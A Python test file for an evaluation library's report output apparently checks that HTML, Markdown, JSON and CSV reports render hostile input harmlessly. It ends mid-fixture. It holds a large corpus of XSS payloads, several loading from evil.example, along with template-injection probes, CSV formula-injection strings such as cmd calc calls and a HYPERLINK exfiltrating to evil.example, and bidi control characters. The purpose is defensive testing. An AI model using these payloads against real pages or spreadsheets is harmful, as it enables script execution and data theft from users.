"""Reports: what they say, and that nothing of what they show can run, load, steer or compute."""

import base64
import csv
import hashlib
import html
import io
import json
import re
import shutil
import subprocess
import unicodedata
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from itertools import pairwise, product
from urllib.parse import quote

import pytest

from spantune.data import Example, Span, write_text
from spantune.evaluation import Known, judge
from spantune.evaluation.cases import Given
from spantune.evaluation.report import About, Picture, pictures_of, report_csv, report_html, report_json, report_markdown
from spantune.evaluation.report.excerpts import MOST, excerpt
from spantune.evaluation.report.texts import ERRORS, writable
from spantune.wording import shortened, visible

# -- a corpus of hostile texts

_RUN = "document.title='owned'"
_ELEMENTS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "style", "iframe", "marquee")
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "ONMOUSEOVER")
_WHOLE = (
    f"<script>{_RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<a href=javascript:{_RUN}>a</a>",
    f'<a href="data:text/html,<script>{_RUN}</script>">a</a>',
    "<style>@import url(//evil.example/x.css)</style>",
    "<img src=//evil.example/pixel.png>",
    "<textarea><plaintext><xmp><noscript><template>",
    f"<!--><script>{_RUN}</script>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    "<!doctype html><html><head><title>owned</title></head>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!-- an open comment",
    "<tag-that-never-ends attribute='",
)
_ENCODED = {
    "plain": lambda text: text,
    "upper case": str.upper,
    "entities": html.escape,
    "numbers": lambda text: "".join(f"&#{ord(one)};" for one in text),
    "percent": quote,
    "escapes": lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
    "full width": lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),
    "halves": lambda text: text.replace("<", "\ud83d<\x00"),
}
_CLOSING = (
    "</style>",
    "</title>",
    "</mark>",
    "</bdi></td></tr></table>",
    "</script>",
    "</div></article></section></main></body></html>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    '" onmouseover="',
    "' autofocus onfocus='",
    '" style="background:url(//evil.example)" x="',
    " onclick=alert(1) ",
    "/>",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "{# comment #}",
    "{%- raw -%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{{{html}}}",
    "%(title)s {0} {title!r} %s %n",
)
_CHARACTERS = (
    "right \u202eto left\u202c end",
    "\u2066isolated\u2069 \u200f\u200e\u061c",
    "\x00\x01\x08\x0b\x0c\x0e\x1b[2J\x1b]0;owned\x07\x7f",
    "\x80\x85\x90\x9b\x9f",
    "\ud800 alone",
    "alone \udfff",
    "\udfff\ud800 the wrong way round",
    "line\u2028separator\u2029paragraph",
    "carriage\rreturn\r\nline\nfeed",
    "a\ufeffb\u200bc\u00add\u2060e",
    "\U000e0041\U000e007f tags",
    "Z\u0351\u0346\u0300a\u0301\u0302l\u0303g\u0304o\u0305" * 3,
    "\ufdd0 \uffff \U0010ffff",
    "ＳＣＲＩＰＴ ﹤b﹥ ‹b› ˂b˃",
    "ſcript ıframe K",
    "𝕊𝕔𝕣𝕚𝕡𝕥 <𝗯>",
    "\u3164\u115f\u17b4 filler",
    "👩‍👩‍👧‍👦 می‌خواهم",
    "a" + "\u0301" * 60,
    "\t tab \v and \f",
)
_MARKDOWN = (
    "[a](javascript:alert(1))",
    "![a](//evil.example/x.png)",
    "[a]: //evil.example",
    "<https://evil.example>",
    "# heading",
    "- item",
    "1. item",
    "> quotation",
    "```\ncode\n```",
    "~~~\ncode\n~~~",
    "`code`",
    "**bold** __bold__ ~~struck~~",
    "| a | b |",
    "|---|---|\n| a | b |",
    "\\| a \\\\| b \\",
    "\\",
    "a\n\n# heading\n\n<b>b</b>",
    "---",
    "[x] [^1] [[wiki]]",
    "&lt;b&gt; &amp; &copy; &#60;",
    "<b>bold</b>",
    "<br>",
)
_LEADS = ("", "\t", "\r", " ", "\n", "\xa0", '"', "'")
_FORMULAS = ("=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", '=HYPERLINK("//evil.example?x="&A1;"a")')
_CELLS = ("=1+1", "-2+3+cmd|' /C calc'!A0", '=1";=1+1', "a,=1+1", "a;=1+1", "a\n=1+1", "a\r=1+1", "==", "=", "+", "-", "@")
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(f"<{element} {handler}={_RUN}>" for element, handler in product(_ELEMENTS, _HANDLERS)),
            *(encode(text) for text, encode in product(_WHOLE, _ENCODED.values())),
            *(f"{closing}<script>{_RUN}</script>" for closing in _CLOSING),
            *(f"{closing}<img src=x onerror={_RUN}>" for closing in _CLOSING),
            *_CLOSING,
            *_TEMPLATES,
            *_CHARACTERS,
            *_MARKDOWN,
            *(lead + formula for lead, formula in product(_LEADS, _FORMULAS)),
            *_CELLS,
        ]
    )
)
PAGES = [PAYLOADS[at : at + 30] for at in range(0, len(PAYLOADS), 30)]
every_page = pytest.mark.parametrize("payloads", PAGES, ids=range(len(PAGES)))


def test_the_corpus_is_large():
    assert len(PAYLOADS) >= 200
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@cache
def hostile(payloads):
    """A judgement of questions in which each payload is id, question, context, label, answer and document; all are wrong."""
    rows, said = [], []
    for payload in payloads:
        context = f"{payload} then unrelated words. {payload}"
        spans = (Span(payload, 0), Span("unrelated", context.index("unrelated words")))
        rows.append(Example(payload, payload, context, spans, payload, fields=((payload, payload),)))
        said.append(Given(payload, f"{payload} is what it says", probability=0.95))
    return judge(rows, said)


def about_of(payloads, **more):
    """What stands beside a judgement, full of payloads too; headings of pictures and columns are never from outside."""
    facts = {payload: payload for payload in payloads}
    picture = Picture("<script>a heading</script>", b"<svg onload='x'><script>1</script></svg>", payloads[-1])
    return About(
        **{
            "title": payloads[0],
            "subtitle": payloads[1],
            "commands": tuple(payloads),
            "versions": facts,
            "settings": facts,
            "data": facts,
            "pictures": (picture, Picture("Wide", b"<svg/>", payloads[2], wide=True)),
            "traces": {payloads[3]: "report-traces/0001.html"},
            "history": ({"<b>epoch": payloads[0], 'x"y': payloads[1]},),
            **more,
        }
    )


@cache
def sliced(values, name="topic"):
    """A judgement whose slices have these values, ten questions each; most answers of the first one are wrong."""
    rows = [
        Example(f"{at}-{n}", "Who?", f"{at}-{n} Ada met Bob.", (Span("Ada", len(f"{at}-{n} ")),), fields=((name, value),))
        for at, value in enumerate(values)
        for n in range(10)
    ]
    return judge(rows, [Given(row.id, "Bob" if row.id.endswith("-0") or row.id.startswith("0-") else "Ada") for row in rows])


# -- as a page

VOID = {"meta", "br", "img"}
FORBIDDEN = {"script", "iframe", "object", "embed", "link", "form", "base", "input"}
# fmt: off
TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "section", "footer", "article", "h1", "h2", "h3", "p",
    "ul", "li", "div", "table", "thead", "tbody", "tr", "th", "td", "bdi", "b", "br", "span", "svg", "rect", "figure", "img",
    "figcaption", "dl", "dt", "dd", "mark", "pre", "a",
}
ATTRIBUTES = {
    "lang", "charset", "http-equiv", "content", "name", "class", "id", "aria-labelledby", "aria-hidden", "scope", "dir", "src",
    "alt", "href", "viewbox", "preserveaspectratio", "width", "height",
}
CLASSES = {
    "verdict", "good", "fair", "poor", "soft", "grade", "remarks", "alarm", "scroll", "n", "b", "bar", "pictures", "wide",
    "worse", "tag", "pair", "text", "gold", "said", "both",
}
# fmt: on


class Page(HTMLParser):
    """The elements of a page with their texts; fails on elements that do not nest, and on comments."""

    def __init__(self, source):
        super().__init__(convert_charrefs=True)
        self.open, self.elements, self.declarations = [], [], []
        self.feed(source)
        self.close()
        assert self.open == []
        assert [one.lower() for one in self.declarations] == ["doctype html"]

    def handle_starttag(self, tag, attrs):
        element = {"tag": tag, "text": "", "attributes": attrs, **dict(attrs)}
        self.elements.append(element)
        if tag not in VOID:
            self.open.append(element)

    def handle_startendtag(self, tag, attrs):
        self.elements.append({"tag": tag, "text": "", "attributes": attrs, **dict(attrs)})

    def handle_endtag(self, tag):
        assert self.open.pop()["tag"] == tag

    def handle_data(self, data):
        for element in self.open:
            element["text"] += data

    def handle_decl(self, decl):
        self.declarations.append(decl)

    def handle_comment(self, data):
        self.declarations.append(f"comment {data}")

    def handle_pi(self, data):
        self.declarations.append(f"instruction {data}")

    def unknown_decl(self, data):
        self.declarations.append(f"unknown {data}")

    def all(self, tag, **attributes):
        return [one for one in self.elements if one["tag"] == tag and all(one.get(k) == v for k, v in attributes.items())]

    def texts(self, tag, **attributes):
        return [one["text"] for one in self.all(tag, **attributes)]


def steering(text):
    return {
        one
        for one in text
        if (unicodedata.category(one) in {"Cc", "Cs", "Zl", "Zp"} and one != "\n")
        or unicodedata.bidirectional(one) in {"RLO", "LRO", "RLE", "LRE", "PDF", "RLI", "LRI", "FSI", "PDI"}
    }


def check_harmless(page, addresses=()):
    """Nothing can run or load, and whatever is markup is ours."""
    assert {one["tag"] for one in page.elements} & FORBIDDEN == set()
    assert {one["tag"] for one in page.elements} <= TAGS
    named = [(name, value, one["tag"]) for one in page.elements for name, value in one["attributes"]]
    assert {name for name, _, _ in named if name.startswith("on")} == set()
    assert {name for name, _, _ in named} <= ATTRIBUTES
    assert {part for name, value, _ in named if name == "class" for part in value.split()} <= CLASSES
    assert all(value.startswith("data:image/svg+xml;base64,") and tag == "img" for name, value, tag in named if name == "src")
    assert all(value in addresses and tag == "a" for name, value, tag in named if name == "href")
    check_policy(page)


def check_policy(page):
    """One style sheet, and a policy that allows it, by its hash, and pictures that the page carries; nothing else."""
    (style,) = page.texts("style")
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    (policy,) = [one["content"] for one in page.all("meta") if one.get("http-equiv") == "Content-Security-Policy"]
    assert policy.split("; ") == [
        "default-src 'none'",
        f"style-src 'sha256-{digest}'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ]


@every_page
def test_nothing_from_outside_is_markup(payloads):
    source = report_html(hostile(payloads), about_of(payloads))
    check_harmless(Page(source), ["report-traces/0001.html"])
    assert steering(source) == set()
    assert "url(" not in Page(source).texts("style")[0]
    assert "@import" not in Page(source).texts("style")[0]
    assert source.encode().decode() == source


@every_page
def test_what_is_hostile_is_found_as_text(payloads):
    found = hostile(payloads)
    page = Page(report_html(found, about_of(payloads)))
    assert len(found.mistakes.each) == len(found.suspects) == len(payloads)
    assert set(page.texts("h3")) - {"Settings"} == {visible(shortened(one, 600)) for one in payloads}  # questions
    contexts = {visible(f"{one} then unrelated words. {one}") for one in payloads if len(one) < 130}
    assert contexts <= set(page.texts("div", **{"class": "text"}))
    definitions = page.texts("dd")
    for one in payloads:
        assert visible(shortened(f"{one} | unrelated", 400)) in definitions  # labels
        assert visible(shortened(f"{one} is what it says", 400)) in definitions  # answers
        assert definitions.count(visible(one)) >= 3  # versions, settings, data
        assert page.texts("span", **{"class": "tag"}).count(visible(shortened(one, 60))) == 3  # id, document, suspect's id
    assert page.texts("title") == page.texts("h1") == [visible(payloads[0])]
    assert page.texts("pre") == ["".join(visible(one) + "\n" for one in payloads)]
    assert [one["alt"] for one in page.all("img")] == [visible(payloads[-1]), visible(payloads[2])]


@pytest.mark.parametrize("at", range(0, len(PAYLOADS), 18))
def test_hostile_values_and_names_of_fields_are_text(at):
    values = PAYLOADS[at : at + 18]
    source = report_html(sliced(("bad", *values), name=values[0]), About("a title"))
    page = Page(source)
    check_harmless(page)
    assert steering(source) == set()
    cells = page.texts("td")
    assert f"{visible(values[0])}: bad surely worse" in cells
    for value in values:
        assert f"{visible(values[0])}: {visible(shortened(value, 80))}" in cells


def test_an_address_with_quotes_stays_an_address():
    address = "a \"quoted\" 'one'<b>&amp;.html"
    page = Page(report_html(hostile(PAYLOADS[:5]), About("t", traces={PAYLOADS[2]: address})))
    check_harmless(page, [address])
    assert [one["href"] for one in page.all("a")] == [address]


# -- what a page says

NAMES = ("Ada Lovelace", "Charles Babbage", "Grace Hopper")


def ordinary(count=90, wrong=4, **known):
    """Plain questions, three a document, every `wrong`th answered wrong, with probabilities and an untuned model."""
    rows, said, before = [], [], []
    for n in range(count):
        label, other = NAMES[n % 3], NAMES[(n + 1) % 3]
        context = f"Entry {n}. " + "Nothing of note. " * 30 + f"It was {label}, and not {other}. " + "Little follows. " * 30
        spans = (Span(label, context.index(label)),) if n % 10 else ()
        rows.append(Example(f"q{n}", f"Who was it in entry {n}?", context, spans, f"d{n // 3}"))
        text = other if n % wrong == 0 else label if n % 10 else ""
        said.append(Given(f"q{n}", text, probability=0.9 - n % wrong / 10))
        before.append(Given(f"q{n}", other))
    return judge(rows, said, known=Known(**{"untuned": before, "touched": 2, **known}))


@pytest.fixture(scope="module")
def judged():
    return ordinary()


@pytest.fixture(scope="module")
def described(judged):
    return About(
        "run on data.json",
        "Trained on 100 questions.",
        commands=("spantune train a.json", "spantune report run data.json --out report.html"),
        versions={"torch": "2.6"},
        settings={"training.epochs": "3 (the default)"},
        data={"questions": "90"},
        pictures=pictures_of(judged),
        traces={"q0": "report-traces/0001.html"},
        history=({"epoch": "1", "loss": "0.5"}, {"epoch": "2", "loss": "0.4"}),
    )


@pytest.fixture(scope="module")
def page(judged, described):
    return Page(report_html(judged, described))


def test_the_page_is_harmless(page, described):
    check_harmless(page, described.traces.values())


def test_the_verdict_comes_first(page, judged):
    assert page.texts("h2")[0] == "Verdict"
    assert page.texts("p", **{"class": "grade"}) == [judged.verdict.grade]
    sentences = [one["text"] for one in page.all("li")]
    assert sentences == [one.sentence for one in judged.verdict.remarks]
    assert len(page.all("li", **{"class": "alarm"})) == sum(one.alarming for one in judged.verdict.remarks)


def test_scores_stand_beside_those_before_training(page, judged):
    row = next(one["text"] for one in page.all("tr") if one["text"].startswith("F1") and "answerable" not in one["text"])
    for mean in (judged.means["f1"], judged.untuned["f1"]):
        assert f"{100 * mean.value:.1f}" in row
        assert f"{100 * mean.interval.low:.1f} to {100 * mean.interval.high:.1f}" in row
    assert "Before training" in page.all("tr")[0]["text"]
    told = next(text for text in page.texts("p") if text.startswith("Against the untuned model"))
    assert f"F1 +{100 * judged.gain.value:.1f} points" in told
    assert told.endswith(": better.")


def test_a_loss_has_a_true_minus_sign():
    rows = [Example(str(n), "Who?", f"{n} Ada met Bob.", (Span("Ada", len(f"{n} ")),)) for n in range(40)]
    untuned = [Given(row.id, "Ada") for row in rows]
    text = report_html(judge(rows, [Given(row.id, "Bob") for row in rows], known=Known(untuned=untuned)), About("t"))
    assert "F1 −100.0 points" in text
    assert ": worse." in text


def test_every_mistake_shows_label_and_answer_in_its_context(page, judged):
    articles = page.texts("article")
    assert len(articles) == len(judged.mistakes.each)
    assert page.texts("h2")[-3] == f"Answers that do not match: {len(articles)}"
    for one, text in zip(judged.mistakes.each, articles, strict=True):
        assert one.case.record.question in text
        assert one.kind in text
    for kind, key in (("gold", "the label"), ("said", "the answer")):
        marked = page.texts("mark", **{"class": kind})
        assert marked[0] == key
        assert set(marked[1:]) == set(NAMES)


def test_pieces_of_a_context_are_left_out_where_nothing_is_marked(judged):
    for one in judged.mistakes.each:
        pieces = excerpt(one.case)
        assert sum(len(piece.text) + piece.skipped for piece in pieces) == len(one.case.record.context)
        assert sum(len(piece.text) for piece in pieces) < 600


def test_only_mistakes_that_have_a_trace_link_to_it(page):
    assert [one["href"] for one in page.all("a")] == ["report-traces/0001.html"]
    assert [text.count("every step") for text in page.texts("article") if "entry 0?" in text] == [1]


def test_pictures_are_told_in_words(page, judged):
    pictures = page.all("img")
    assert len(pictures) == 2
    for one, picture in zip(pictures, pictures_of(judged), strict=True):
        assert one["alt"].strip() == picture.words
        assert base64.b64decode(one["src"].partition(",")[2]) == picture.svg
        assert b"<script" not in picture.svg


def test_regions_have_names_and_tables_heads(page):
    ids = [one["id"] for one in page.elements if "id" in one]
    assert len(ids) == len(set(ids))
    assert all(one["aria-labelledby"] in ids for one in page.all("section"))
    assert len(page.all("thead")) == len(page.all("table"))
    assert all(one.get("scope") in {"col", "row"} for one in page.all("th"))
    assert len(page.all("h1")) == len(page.all("main")) == 1
    assert page.all("html")[0]["lang"] == "en"
    assert all(one.get("aria-hidden") == "true" for one in page.all("svg"))
    levels = [int(one["tag"][1]) for one in page.elements if one["tag"] in {"h1", "h2", "h3"}]
    assert all(after - before <= 1 for before, after in pairwise(levels))


def test_the_same_judgement_gives_the_same_page(judged, described):
    again = replace(described, pictures=pictures_of(judged))
    assert report_html(judged, again) == report_html(judged, described)


def test_where_all_is_right_there_are_no_mistakes_to_show():
    rows = [Example(str(n), "Who?", f"{n} Ada.", (Span("Ada", len(f"{n} ")),)) for n in range(30)]
    page = Page(report_html(judge(rows, [Given(row.id, "Ada") for row in rows]), About("t")))
    assert page.texts("h2") == ["Verdict", "Scores", "Data", "To make it again"]
    assert page.all("img") == page.all("article") == page.all("pre") == []


def test_one_question_alone_has_a_page():
    rows = [Example("1", "Who?", "Ada met Bob.", (Span("Ada", 0),))]
    page = Page(report_html(judge(rows, [Given("1", "Bob")]), About("t")))
    check_harmless(page)
    assert "unknown" in page.texts("table")[0]


def test_arabic_runs_from_right_to_left():
    context = "باريس هي عاصمة فرنسا وليون مدينة كبيرة"
    rows = [Example("1", "ما هي عاصمة فرنسا؟", context, (Span("باريس", 0),))]
    page = Page(report_html(judge(rows, [Given("1", "ليون")]), About("t")))
    assert [one["dir"] for one in page.all("div", **{"class": "text"})] == ["rtl"]
    assert page.texts("mark", **{"class": "gold"})[1:] == ["باريس"]


# -- excerpts


def pieces_of(context, spans, answer, start=None):
    (case,) = judge([Example("1", "Who?", context, spans)], [Given("1", answer, start)]).cases.each
    return [(piece.text, piece.kind) for piece in excerpt(case)]


def test_what_is_label_and_answer_is_both():
    spans = (Span("Ada Lovelace", 7),)
    assert pieces_of("It was Ada Lovelace.", spans, "Lovelace.") == [
        ("It was ", ""),
        ("Ada ", "gold"),
        ("Lovelace", "both"),
        (".", "said"),
    ]


def test_of_a_question_without_label_and_answer_the_beginning_is_shown():
    assert "".join(text for text, _ in pieces_of("word " * 400, (), "")) == ("word " * 400)[:320]


def test_an_answer_that_is_not_in_the_context_marks_nothing():
    assert pieces_of("It was Ada.", (Span("Ada", 7),), "Bob") == [("It was ", ""), ("Ada", "gold"), (".", "")]


def test_an_excerpt_of_a_long_label_stays_short():
    context = "word " * 20_000
    assert sum(len(text) for text, _ in pieces_of(context, (Span(context.strip(), 0),), "word")) <= 2 * MOST


def test_the_place_that_is_marked_is_the_one_the_mistake_is_named_after():
    context = "Ada came. " + "Nothing of note. " * 40 + "Ada Lovelace wrote it."
    spans = (Span("Ada Lovelace", context.index("Ada Lovelace")),)
    assert ("Ada", "both") in pieces_of(context, spans, "Ada")


# -- the size


@pytest.mark.parametrize(
    ("count", "long"), [(2000, False), (200, True)], ids=["short labels", "labels and answers of half a context"]
)
def test_a_page_of_many_long_questions_stays_small(count, long):
    rows, said = [], []
    for n in range(count):
        context = (f"Entry {n} " + "some words \x00 of <markup> & ‘quotes’ " * 150)[:4900] + f" Ada met Bob {n}."
        label = context[:2400] if long else "Ada"
        rows.append(Example(f"q{n}", f"Who met Bob {n}?", context, (Span(label, context.index(label)),), f"d{n // 10}"))
        said.append(Given(f"q{n}", context[2500:4900] if long else "nobody", probability=0.97))
    source = report_html(judge(rows, said), About("t"))
    assert len(source.encode()) <= 1_000_000
    assert Page(source).texts("h2")[-3] == f"Answers that do not match: the worst {ERRORS} of {count:,}"
    assert len(Page(source).all("article")) == ERRORS


# -- as JSON


def read_json(text):
    def refuse(name):
        raise AssertionError(name)

    return json.loads(text, parse_constant=refuse)


@every_page
def test_json_has_every_text_as_it_was(payloads):
    told = read_json(report_json(hostile(payloads), about_of(payloads)))
    assert told["title"] == payloads[0]
    assert told["commands"] == list(payloads)
    assert [one["id"] for one in told["errors"]] and {one["id"] for one in told["errors"]} == set(payloads)
    assert {one["prediction"] for one in told["errors"]} == {f"{one} is what it says" for one in payloads}
    assert {one["question"] for one in told["labels_to_look_at"]} == set(payloads)
    assert told["data"] == told["settings"] == told["versions"] == {one: one for one in payloads}


def test_json_says_what_the_page_says(judged, described):
    told = read_json(report_json(judged, described))
    assert told["verdict"] == judged.verdict.as_dict()
    assert told["intervals"]["f1"]["value"] == pytest.approx(100 * judged.means["f1"].value)
    assert [one["id"] for one in told["errors"]] == [one.case.record.id for one in judged.mistakes.each]
    assert [one["mistake"] for one in told["errors"]] == [one.kind for one in judged.mistakes.each]


# -- as CSV


def read_csv(text):
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    return [dict(zip(head, row, strict=True)) for row in rows]


STEERS = ("=", "+", "-", "@", "\t", "\r")
# Before 3.13 the csv module leaves carriage returns without quotation marks, and takes them for the end of a row.
RETURNS = tuple(one for one in PAYLOADS if "\r" in one)
OTHERS = tuple(one for one in PAYLOADS if "\r" not in one)


@pytest.mark.parametrize("payloads", [OTHERS, pytest.param(RETURNS)], ids=["others", "returns"])
def test_no_cell_begins_a_formula(payloads):
    rows = read_csv(report_csv(hostile(payloads)))
    assert len(rows) == len(payloads)
    assert [value for row in rows for value in row.values() if value.startswith(STEERS)] == []


@pytest.mark.parametrize("payloads", [OTHERS, pytest.param(RETURNS)], ids=["others", "returns"])
def test_every_cell_has_its_text(payloads):
    for row, payload in zip(read_csv(report_csv(hostile(payloads))), map(writable, payloads), strict=True):
        safe = f"'{payload}" if payload.startswith(STEERS) or payload.lstrip().startswith(STEERS) else payload
        assert [row["id"], row["question"], row["document"]] == [safe] * 3
        assert row["references"] == f"{safe} | unrelated"
        assert row["prediction"] == f"{safe} is what it says"


def test_a_row_does_not_end_within_a_question():
    rows = [Example("1", "Who?\r=1+1", "Ada met Bob.", (Span("Ada", 0),))]
    assert [row["question"] for row in read_csv(report_csv(judge(rows, [Given("1", "Bob")])))] == ["Who?\r=1+1"]


def test_a_row_for_every_question(judged):
    rows = read_csv(report_csv(judged))
    assert [row["id"] for row in rows] == [case.record.id for case in judged.cases.each]
    kinds = {one.case.record.id: one.kind for one in judged.mistakes.each}
    for row, case in zip(rows, judged.cases.each, strict=True):
        assert float(row["f1"]) == pytest.approx(case.score.f1, abs=1e-4)
        assert float(row["exact_match"]) == case.score.exact_match
        assert row["mistake"] == kinds.get(row["id"], "")
        assert row["confidence"] == ""
    sure = ordinary(9, confidence=[0.25] * 9)
    assert {row["confidence"] for row in read_csv(report_csv(sure))} == {"0.2500"}


# -- as Markdown


def outside_of_fences(text):
    return [
        line
        for at, part in enumerate(re.split(r"^```+$", text, flags=re.MULTILINE))
        for line in part.splitlines()
        if not at % 2
    ]


def bare(line, signs):
    """Signs of a line that no backslash stands before."""
    return [found[0][-1] for found in re.finditer(rf"(?<!\\)(?:\\\\)*[{re.escape(signs)}]", line)]


def cells(line):
    assert line.startswith("|"), line
    assert line.endswith("|"), line
    return [cell.strip() for cell in re.split(r"(?<=[^\\])(?:(?<=\\\\)|(?<!\\))\|", line[1:-1])]


def read_back(text):
    """What a reader of Markdown sees of a text without markup."""
    return html.unescape(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text))


def tables(text):
    blocks, block = [], []
    for line in [*outside_of_fences(text), ""]:
        if line.startswith("|"):
            block.append(line)
        elif block:
            blocks.append([cells(one) for one in block])
            block = []
    return blocks


def check_markdown(text):
    for line in outside_of_fences(text):
        assert bare(line, "<`[") == [], line
        assert "&" not in re.sub("&(amp|lt);", "", line), line
    found = tables(text)
    for rows in found:
        assert {len(row) for row in rows} == {len(rows[0])}
        assert set(rows[1]) == {"---"}
    return found


@every_page
def test_nothing_from_outside_is_markup_of_markdown(payloads):
    found = hostile(payloads)
    text = report_markdown(found, About(payloads[0], "A subtitle."))
    *_, labels = check_markdown(text)
    assert len(labels) == len(payloads) + 2
    told = {(read_back(row[0]), read_back(row[1])) for row in labels[2:]}
    assert told == {
        tuple(" ".join(visible(shortened(" ".join(one.split()), 160)).split()) for one in (payload, f"{payload} | unrelated"))
        for payload in payloads
    }
    assert read_back(text.splitlines()[0]) == f"# {' '.join(visible(payloads[0]).split())}"
    assert [line for line in text.splitlines() if line.startswith("#")][1:] == [
        "## Verdict",
        "## Scores",
        "## Mistakes",
        "## Labels to look at",
    ]


@pytest.mark.parametrize("at", range(0, len(PAYLOADS), 18))
def test_hostile_fields_are_no_markup_of_markdown(at):
    values = PAYLOADS[at : at + 18]
    check_markdown(report_markdown(sliced(("bad", *values), name=values[0]), About("t")))


@pytest.mark.parametrize("subtitle", ["<img src=x onerror=1>", "[a](javascript:alert(1))", "a\n\n# heading"])
def test_a_subtitle_is_no_markup_of_markdown(subtitle):
    """It names the model, which is whatever folder or address the user gave."""
    text = report_markdown(hostile(PAYLOADS[:3]), About("t", subtitle))
    check_markdown(text)
    assert [line for line in text.splitlines() if line.startswith("# ")] == ["# t"]


def test_a_command_does_not_close_its_fence():
    """`shlex.join` keeps line feeds of a file's name."""
    text = report_markdown(hostile(PAYLOADS[:3]), About("t", commands=("spantune report 'a\n```\n<b>.json'",)))
    check_markdown(text)


def test_markdown_says_what_the_page_says(judged, described):
    text = report_markdown(judged, described)
    scores, mistakes, *_ = check_markdown(text)
    row = next(row for row in scores if row[0] == "F1")
    assert row[1] == f"{100 * judged.means['f1'].value:.1f}"
    assert row[3] == f"{100 * judged.untuned['f1'].value:.1f}"
    assert {row[0]: row[1] for row in mistakes[2:]} == {kind: str(n) for kind, n in judged.mistakes.counts.items()}
    assert "```\nspantune train a.json\nspantune report run data.json --out report.html\n```" in text
    assert text.startswith("# run on data.json\n\nTrained on 100 questions.\n\n## Verdict\n\n")


# -- what can be written


WRITTEN = {
    "html": lambda found: report_html(found, About("t")),
    "md": lambda found: report_markdown(found, About("t")),
    "json": lambda found: report_json(found, About("t")),
    "csv": report_csv,
}


@pytest.mark.parametrize("kind", ["html", "md", "json", "csv"])
def test_halves_of_surrogate_pairs_can_be_written(kind, tmp_path):
    """JSON files may hold them, as escapes: a report of such data is one all the same."""
    write_text(tmp_path / f"report.{kind}", WRITTEN[kind](hostile(("\ud800 alone", "alone \udfff"))))
    assert (tmp_path / f"report.{kind}").stat().st_size > 100


# -- in a real browser

CHROMIUM = shutil.which("chromium")
in_a_browser = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed, so no page is opened in a browser")


def browse(folder, source, *, width=1200, height=1000, shot=None):
    """The page as a browser has it after everything ran that may run; a picture of it is written to `shot`."""
    file = folder / "page.html"
    file.write_text(source, encoding="utf-8")
    command = [
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--hide-scrollbars",
        f"--user-data-dir={folder / 'profile'}",
        f"--window-size={width},{height}",
        *([f"--screenshot={shot}"] if shot else []),
        "--dump-dom",
        file.as_uri(),
    ]
    done = subprocess.run(command, capture_output=True, timeout=60, check=True)
    return done.stdout.decode("utf-8")


@pytest.fixture(scope="module")
def attacked():
    """A page with every payload that would run something, and long words that would make a page wide."""
    running = [one for one in PAYLOADS if _RUN in one][:: max(sum(_RUN in one for one in PAYLOADS) // 29, 1)][:29]
    found = hostile((*running, "W" * 2000))
    return report_html(found, About("a title", running[0], commands=tuple(running), data={one: one for one in running[:3]}))


def spliced(source, *, policy):
    """The page as it would be if nothing were escaped; without its policy too."""
    if not policy:
        source = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", source)
    unescaped = [f'<img src="x" onerror="{_RUN}">', f"<svg onload={_RUN}></svg>", f"<script>{_RUN}</script>"]
    return source.replace("</main>", f"{''.join(unescaped)}</main>")


@in_a_browser
def test_nothing_runs_in_a_browser(attacked, tmp_path):
    seen = Page(browse(tmp_path, attacked))
    check_harmless(seen)
    assert seen.texts("title") == ["a title"]
    assert len(seen.all("article")) == len(Page(attacked).all("article")) == 30
    words = [[one["text"].split() for one in page.elements] for page in (seen, Page(attacked))]
    assert words[0] == words[1]


FRAMES = {"narrow": 400, "wide": 1200, "narrow, attacked": 400, "wide, attacked": 1200, "not escaped": 400, "no policy": 400}
HEIGHT = 1000


@pytest.fixture(scope="module")
def opened(attacked, judged, described, tmp_path_factory):
    """Pages in frames of a window, which say what became of them, and a picture of the window.

    A frame may be narrower than a window, and its media queries are about the frame.
    """
    ours, small = report_html(judged, described), report_html(hostile(PAYLOADS[:1]), About("a title"))
    pages = (ours, ours, attacked, attacked, spliced(small, policy=True), spliced(small, policy=False))
    frames = "".join(
        f'<iframe id="{name}" srcdoc="{html.escape(source)}" style="width:{width}px;height:{HEIGHT}px;border:0"></iframe>'
        for source, (name, width) in zip(pages, FRAMES.items(), strict=True)
    )
    tell = (
        "onload = () => document.getElementById('told').textContent = JSON.stringify(Object.fromEntries("
        "[...document.querySelectorAll('iframe')].map(one => [one.id, {title: one.contentDocument.title, "
        "across: one.contentDocument.documentElement.scrollWidth, width: one.contentWindow.innerWidth}])))"
    )
    folder = tmp_path_factory.mktemp("browser")
    source = (
        f"<!doctype html><meta charset=utf-8><title>window</title><script>{tell}</script>"
